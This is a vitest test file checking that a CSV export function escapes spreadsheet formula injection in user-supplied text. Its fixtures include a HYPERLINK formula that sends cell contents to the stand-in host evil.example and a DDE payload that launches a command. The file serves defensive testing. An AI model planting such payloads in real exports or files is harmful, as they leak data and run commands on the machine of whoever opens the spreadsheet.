import { describe, expect, it } from 'vitest';
import { toCsv } from '../../shared/controller/csv.js';

describe('toCsv: formula injection (member-controlled text opened in a spreadsheet)', () => {
  it.each([
    {
      why: '= starts a formula',
      value: '=HYPERLINK("https://evil.example/?d="&A2,"Fix backup")',
      cell: `"'=HYPERLINK(""https://evil.example/?d=""&A2,""Fix backup"")"`,
    },
    { why: '+ starts a formula', value: "+cmd|' /C calc'!A0", cell: "'+cmd|' /C calc'!A0" },
    { why: '- starts a formula', value: '-2+3', cell: "'-2+3" },
    { why: '@ starts a formula', value: '@SUM(A1)', cell: "'@SUM(A1)" },
    { why: 'a leading tab', value: '\t=1+1', cell: "'\t=1+1" },
    { why: 'a leading carriage return', value: '\r=1+1', cell: `"'\r=1+1"` },
    { why: 'an ARN is left alone', value: 'arn:aws:s3:::bucket', cell: 'arn:aws:s3:::bucket' },
    { why: 'a formula character later in the text is harmless', value: 'a=b', cell: 'a=b' },
  ])('$why', ({ value, cell }) => {
    expect(toCsv([{ arn: value }])).toBe(`arn\r\n${cell}\r\n`);
  });

  it('keeps numbers numbers, negative ones included', () => {
    expect(toCsv([{ count: -1, percent: 81.3 }])).toBe('count,percent\r\n-1,81.3\r\n');
  });
});
